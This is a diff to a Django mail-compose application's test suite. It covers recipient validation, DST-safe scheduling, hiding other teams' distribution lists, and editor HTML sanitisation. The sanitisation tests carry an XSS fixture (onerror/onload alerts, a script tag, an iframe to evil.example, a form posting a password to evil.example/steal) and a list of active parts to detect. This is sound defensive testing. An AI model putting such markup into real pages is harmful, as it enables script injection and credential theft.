@@ -165,14 +165,20 @@ def test_preview_invalid_from_address(english, power_user, configuration):
 
 
 def test_preview_unavailable_recipient_reference(english, power_user, configuration):
-    response = english(power_user).post(NEW, form_data(configuration, to="customer:999999"))
+    response = english(power_user).post(
+        NEW, form_data(configuration, to="a@example.com, customer:999999")
+    )
     assert _errors(response, "to") == [
-        "The recipient customer:999999 does not exist or is not available to you."
+        "Recipient 2 (customer:999999): unknown selection. It does not exist or is not "
+        "available to you; remove it."
     ]
 
 
 def test_preview_planned_time_in_the_past_refused_and_kept(english, power_user, configuration):
-    past = timezone.localtime() - datetime.timedelta(hours=1)
+    # Noon: "an hour ago" in wall-clock time may not exist (or exist twice) on DST days.
+    past = datetime.datetime.combine(
+        timezone.localdate() - datetime.timedelta(days=1), datetime.time(12)
+    )
     typed = past.strftime("%Y-%m-%dT%H:%M")
     response = english(power_user).post(
         NEW, form_data(configuration, to="a@example.com", scheduled_at=typed)
@@ -383,7 +389,9 @@ def test_send_creates_rows_and_lands_on_filtered_outbox(
 
 def test_send_one_mail_to_all_planned(english, power_user, configuration, customer):
     client = english(power_user)
-    later = timezone.localtime() + datetime.timedelta(days=1)
+    later = datetime.datetime.combine(
+        timezone.localdate() + datetime.timedelta(days=1), datetime.time(12)
+    )
     client.post(
         NEW,
         form_data(
@@ -408,7 +416,13 @@ def test_send_refused_when_time_passed_since_preview(english, power_user, config
         smtp_configuration=configuration,
         to=["a@example.com"],
         subject="S",
-        scheduled_at=timezone.now() - datetime.timedelta(minutes=5),
+        # Yesterday noon: "5 minutes ago" may fall in the hour that repeats when DST ends,
+        # which the form (a wall-clock time) cannot read back unambiguously.
+        scheduled_at=timezone.make_aware(
+            datetime.datetime.combine(
+                timezone.localdate() - datetime.timedelta(days=1), datetime.time(12)
+            )
+        ),
     )
     response = english(power_user).post(reverse("compose:send", args=[draft.pk]))
     assert response.status_code == 400
@@ -483,6 +497,20 @@ def test_template_without_recipient_asks_for_one(english, power_user, configurat
     ]
 
 
+def test_template_for_an_invalid_to_address_asks_to_correct_it(english, power_user, configuration):
+    template = MailTemplateFactory(add_attachment="none")
+    response = english(power_user).post(
+        NEW,
+        form_data(
+            configuration, to="kein-at-zeichen", subject="", template=template.pk, action="template"
+        ),
+    )
+    assert response.status_code == 400
+    assert _errors(response, "to") == ["“kein-at-zeichen” is not a valid e-mail address."]
+    draft = Draft.objects.get()
+    assert (draft.to, draft.subject) == (["kein-at-zeichen"], "")
+
+
 def test_viewer_cannot_send_a_draft(client_for, viewer):
     owner = UserFactory(username="jemand")
     draft = Draft.objects.create(owner=owner, subject="S", to=["a@example.com"])
@@ -517,3 +545,252 @@ def test_template_rendered_for_chosen_recipient(english, power_user, configurati
     )
     draft = Draft.objects.get()
     assert (draft.subject, draft.attachments.count()) == ("Hallo Muster GmbH", 0)
+
+
+# --- what a user may see: another team's distribution lists (issue 12, item 5) -------------
+
+
+@pytest.fixture
+def hidden_list(team):
+    """A list of another team, with members the power user (of "Team Nord") must not see."""
+    from django.contrib.auth.models import Group
+
+    from tests.factories import DistributionListFactory
+
+    other_team = Group.objects.create(name="Team Süd")
+    member = UserFactory(
+        username="geheim", first_name="Bert", last_name="Geheim", email="bert@geheim.example"
+    )
+    return DistributionListFactory(
+        name="Geheimverteiler",
+        description="Nur für Team Süd",
+        owner_group=other_team,
+        users=[member],
+        addresses=[("vip@geheim.example", "VIP")],
+    )
+
+
+HIDDEN_WORDS = ("Geheimverteiler", "Nur für Team Süd", "Bert Geheim", "geheim.example")
+
+
+def _unknown_message(position, token):
+    return (
+        f"Recipient {position} ({token}): unknown selection. It does not exist or is not "
+        "available to you; remove it."
+    )
+
+
+def _assert_nothing_hidden(text):
+    assert [word for word in HIDDEN_WORDS if word in text] == []
+
+
+def test_hidden_list_refused_on_save_and_never_named(
+    english, power_user, configuration, hidden_list
+):
+    client = english(power_user)
+    token = f"list:{hidden_list.pk}"
+    response = client.post(
+        NEW, form_data(configuration, to=f"a@example.com, {token}", action="save")
+    )
+    text = response.content.decode()
+    assert response.status_code == 400
+    assert _errors(response, "to") == [_unknown_message(2, token)]
+    assert response.context["form"].fields["to"].widget.attrs["data-choices"] == (
+        '[{"token": "address:a@example.com", "label": "a@example.com", "kind": "address", '
+        '"kind_label": "Typed address", "detail": ""}, '
+        f'{{"token": "{token}", "label": "{token} (unknown selection)", "kind": "list", '
+        '"kind_label": "Distribution list", "detail": ""}]'
+    )
+    _assert_nothing_hidden(text)
+    # The draft keeps what was typed, and shows it again without the list's name.
+    draft = Draft.objects.get(owner=power_user)
+    assert draft.to == ["a@example.com", token]
+    page = client.get(reverse("compose:draft", args=[draft.pk]))
+    assert page.status_code == 200
+    assert f"{token} (unknown selection)" in page.content.decode()
+    _assert_nothing_hidden(page.content.decode())
+
+
+def test_hidden_list_refused_on_preview_and_send(english, power_user, configuration, hidden_list):
+    token = f"list:{hidden_list.pk}"
+    draft = Draft.objects.create(
+        owner=power_user, smtp_configuration=configuration, to=[token], subject="S"
+    )
+    client = english(power_user)
+    preview = client.get(reverse("compose:preview", args=[draft.pk]))
+    send = client.post(reverse("compose:send", args=[draft.pk]))
+    assert (preview.status_code, send.status_code) == (400, 400)
+    assert _errors(preview, "to") == _errors(send, "to") == [_unknown_message(1, token)]
+    _assert_nothing_hidden(preview.content.decode() + send.content.decode())
+    assert OutboxMessage.objects.count() == 0
+    assert Draft.objects.filter(pk=draft.pk).exists()
+
+
+def test_hidden_list_not_used_to_fill_in_a_template(
+    english, power_user, configuration, hidden_list
+):
+    template = MailTemplateFactory(
+        add_attachment="none",
+        texts={"de": {"subject": "Hallo {{ recipient.name }}", "body_html": "<p>x</p>"}},
+    )
+    response = english(power_user).post(
+        NEW,
+        form_data(
+            configuration,
+            to=f"list:{hidden_list.pk}",
+            subject="",
+            template=template.pk,
+            action="template",
+        ),
+    )
+    assert response.status_code == 400
+    assert _errors(response, "to") == [_unknown_message(1, f"list:{hidden_list.pk}")]
+    _assert_nothing_hidden(response.content.decode())
+    # Nor when it is named as the recipient to fill the template in for.
+    response = english(power_user).post(
+        reverse("compose:draft", args=[Draft.objects.get().pk]),
+        form_data(
+            configuration,
+            to="a@example.com",
+            subject="",
+            template=template.pk,
+            template_recipient=f"list:{hidden_list.pk}",
+            action="template",
+        ),
+    )
+    assert response.status_code == 400
+    assert _errors(response, "template_recipient") == [
+        f"The recipient list:{hidden_list.pk} does not exist or is not available to you."
+    ]
+    _assert_nothing_hidden(response.content.decode())
+    assert Draft.objects.get().subject == ""
+
+
+def test_hidden_list_not_found_by_recipient_search(english, power_user, hidden_list):
+    client = english(power_user)
+    found = [
+        client.get(reverse("inventory:recipient_search"), {"q": word}).json()
+        for word in ("Geheimverteiler", "Team Süd", "VIP")
+    ]
+    assert found == [{"results": []}, {"results": []}, {"results": []}]
+
+
+def test_own_team_list_and_public_list_are_described(
+    english, power_user, configuration, team, distribution_list
+):
+    from tests.factories import DistributionListFactory
+
+    own = DistributionListFactory(name="Nord-Verteiler", description="Team Nord", owner_group=team)
+    response = english(power_user).post(
+        NEW,
+        form_data(configuration, to=f"list:{own.pk}, list:{distribution_list.pk}", action="save"),
+    )
+    page = english(power_user).get(response["Location"]).content.decode()
+    assert ("Nord-Verteiler" in page, "Labor-Team" in page) == (True, True)
+    assert "unknown selection" not in page
+
+
+def test_administrator_sees_every_team_list(english, admin, configuration, hidden_list):
+    response = english(admin).post(
+        NEW, form_data(configuration, to=f"list:{hidden_list.pk}", action="save")
+    )
+    page = english(admin).get(response["Location"]).content.decode()
+    assert "Geheimverteiler" in page
+
+
+# --- every way into the editor is sanitised (issue 12, item 8) ------------------------------
+
+ACTIVE_HTML = (
+    '<p>Hallo <strong>Welt</strong> <a href="https://calserver.example/info">Info</a></p>'
+    '<img src="x" onerror="alert(1)"><svg onload="alert(2)"><circle r="1"></circle></svg>'
+    '<script>alert(3)</script><iframe src="https://evil.example/"></iframe>'
+    '<form action="https://evil.example/steal"><input name="pw"><button>OK</button></form>'
+)
+SANITISED_HTML = (
+    '<p>Hallo <strong>Welt</strong> <a href="https://calserver.example/info" target="_blank" '
+    'rel="noopener noreferrer">Info</a></p><img>OK'
+)
+ACTIVE_PARTS = (
+    "onerror",
+    "onload",
+    "<svg",
+    "<script",
+    "alert(",
+    "<iframe",
+    "<form",
+    "evil.example",
+)
+
+
+def _editor_value(response) -> str:
+    """What compose.js puts into the editor as HTML: the body textarea's value."""
+    import html
+    import re
+
+    match = re.search(
+        r'<textarea name="body_html"[^>]*>\n?(.*?)</textarea>', response.content.decode(), re.S
+    )
+    return html.unescape(match.group(1))
+
+
+def _assert_inert(value):
+    assert [part for part in ACTIVE_PARTS if part in value] == []
+
+
+def test_template_applied_is_sanitised_in_draft_and_editor(english, power_user, configuration):
+    template = MailTemplateFactory(
+        add_attachment="none", texts={"de": {"subject": "Hallo", "body_html": ACTIVE_HTML}}
+    )
+    client = english(power_user)
+    response = client.post(
+        NEW,
+        form_data(configuration, to="a@example.com", template=template.pk, action="template"),
+    )
+    draft = Draft.objects.get()
+    assert draft.body_html == SANITISED_HTML
+    page = client.get(response["Location"])
+    assert _editor_value(page) == SANITISED_HTML
+    _assert_inert(_editor_value(page))
+
+
+def test_draft_stored_unsanitised_is_sanitised_in_editor(english, power_user, configuration):
+    # As a draft saved before drafts were sanitised on every path.
+    draft = Draft.objects.create(owner=power_user, subject="Alt", body_html=ACTIVE_HTML)
+    page = english(power_user).get(reverse("compose:draft", args=[draft.pk]))
+    assert _editor_value(page) == SANITISED_HTML
+    _assert_inert(_editor_value(page))
+
+
+def test_refused_submission_shows_sanitised_body_in_editor(english, power_user, configuration):
+    response = english(power_user).post(
+        NEW, form_data(configuration, to="a@example.com", subject="", body_html=ACTIVE_HTML)
+    )
+    assert response.status_code == 400
+    assert _editor_value(response) == SANITISED_HTML
+    assert Draft.objects.get().body_html == SANITISED_HTML
+
+
+def test_refused_send_shows_sanitised_body_in_editor(english, power_user, configuration):
+    draft = Draft.objects.create(owner=power_user, subject="", body_html=ACTIVE_HTML)
+    response = english(power_user).post(reverse("compose:send", args=[draft.pk]))
+    assert response.status_code == 400
+    assert _editor_value(response) == SANITISED_HTML
+    assert OutboxMessage.objects.count() == 0
+
+
+def test_draft_save_sanitises_active_html(client_for, power_user, configuration):
+    client_for(power_user).post(NEW, form_data(configuration, action="save", body_html=ACTIVE_HTML))
+    assert Draft.objects.get().body_html == SANITISED_HTML
+
+
+# --- a draft without subject (issue 12, item 11) --------------------------------------------
+
+
+def test_draft_list_shows_draft_without_subject(client_for, english, power_user):
+    draft = Draft.objects.create(owner=power_user, subject="")
+    link = reverse("compose:draft", args=[draft.pk])
+    german = client_for(power_user).get(reverse("compose:drafts"))
+    assert german.status_code == 200
+    assert f'<a href="{link}">(kein Betreff)</a>' in german.content.decode()
+    english_page = english(power_user).get(reverse("compose:drafts"))
+    assert f'<a href="{link}">(no subject)</a>' in english_page.content.decode()
